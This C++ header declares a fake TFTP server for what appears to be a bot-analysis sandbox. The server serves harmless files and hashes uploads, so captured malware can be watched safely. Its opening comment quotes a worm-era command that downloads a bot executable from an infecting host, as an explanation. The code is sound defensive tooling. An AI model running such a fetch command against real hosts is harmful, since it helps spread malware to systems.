#pragma once
// The TFTP server: worm-era bots fetched their own executable by TFTP from the host that
// exploited the next victim (`tftp -i host GET bot.exe`). Read requests are served with the
// same harmless content as HTTP (content.h); write requests are accepted and hashed, not kept.
// RFC 1350 with options (RFC 2347 OACK, 2348 blksize, 2349 tsize).
//
// Limits and choices:
//   kTftpMaxTransfers     64     transfers at once (a request past that: ERROR 0 "busy")
//   kTftpMaxBlockSize     1468   largest blksize granted (an Ethernet frame); smaller than 8
//                                is ignored (the default 512 then applies)
//   kTftpRetransmitMs     1000   a packet unanswered this long is sent again ...
//   kTftpMaxRetransmits   5      ... this many times, then the transfer ends ("timeout")
//   kTftpIdleMs           10000  a transfer without progress this long is dropped ("idle")
//   kTftpDallyMs          3000   a finished upload stays this long to re-acknowledge a
//                                repeated last block (its final ACK may have been lost)
//   kTftpMaxKeptBytes     8 MiB  upload bytes hashed per transfer; the rest are counted
// Transfers are keyed by the client's address and port (its TID). Replies go back from the
// original destination. Duplicate or out-of-order ACKs are ignored (no Sorcerer's Apprentice);
// a repeated DATA block is acknowledged again. Block numbers wrap from 65535 to 0.

#include <cstddef>
#include <cstdint>
#include <map>
#include <memory>
#include <span>
#include <string>
#include <utility>
#include <vector>

#include "fakenet/session.h"

namespace botscope::analysis::tftp {
struct Packet;
}

namespace botscope::fakenet {

inline constexpr std::size_t kTftpMaxTransfers = 64;
inline constexpr std::uint32_t kTftpMaxBlockSize = 1468;
inline constexpr Millis kTftpRetransmitMs = 1000;
inline constexpr int kTftpMaxRetransmits = 5;
inline constexpr Millis kTftpIdleMs = 10000;
inline constexpr Millis kTftpDallyMs = 3000;
inline constexpr std::uint64_t kTftpMaxKeptBytes = 8 << 20;

/// One datagram to send to `client`, from the original destination of its transfer.
struct TftpSend {
    Endpoint client;
    std::string payload;
};

/// Each transfer ends in one "tftp" record: {"client", "server", "op" ("RRQ"/"WRQ"),
/// "file", "mode", "blocks" (acknowledged by the client, or received), "bytes" (in those
/// blocks), "sha256" (of the file served, or of the upload bytes kept; null for a refused
/// request), "completed" (bool), "reason" (null, or why it ended early: "timeout", "idle",
/// "busy", "client error N: text", "replaced", "mode not supported", "block too large")}.
/// A refused request (busy, mail mode) is a transfer that ended at once.
class TftpServer {
public:
    explicit TftpServer(Recorder& rec);
    ~TftpServer();
    TftpServer(const TftpServer&) = delete;
    TftpServer& operator=(const TftpServer&) = delete;

    /// A datagram from a client (to original destination `original`). Replies (sent by the
    /// network side from the same socket, so the guest sees them come from the original
    /// destination) are appended to `out`. false: not TFTP (the caller records it as plain
    /// UDP): not a well-formed RRQ or WRQ, and not a packet of a transfer in progress.
    bool on_datagram(const Endpoint& client, const Endpoint& original,
                     std::span<const std::uint8_t> data, Millis now, std::vector<TftpSend>& out);

    /// Retransmissions and expiry; call about every 100 ms.
    void on_tick(Millis now, std::vector<TftpSend>& out);

    /// Transfers held (in progress, or finished uploads dallying): at most kTftpMaxTransfers.
    std::size_t transfers() const;

    /// One transfer's state (tftp_server.cpp).
    struct Transfer;

private:
    using Key = std::pair<Ipv4, std::uint16_t>;
    using Map = std::map<Key, std::unique_ptr<Transfer>>;

    void request(const Endpoint& client, const Endpoint& original, const analysis::tftp::Packet& p,
                 Millis now, std::vector<TftpSend>& out);
    void handle(Map::iterator it, const analysis::tftp::Packet& p, Millis now,
                std::vector<TftpSend>& out);
    void record(Transfer& t, bool completed, const std::string& reason);
    void end(Map::iterator it, bool completed, const std::string& reason);

    Recorder& rec_;
    Map transfers_;
};

}  // namespace botscope::fakenet
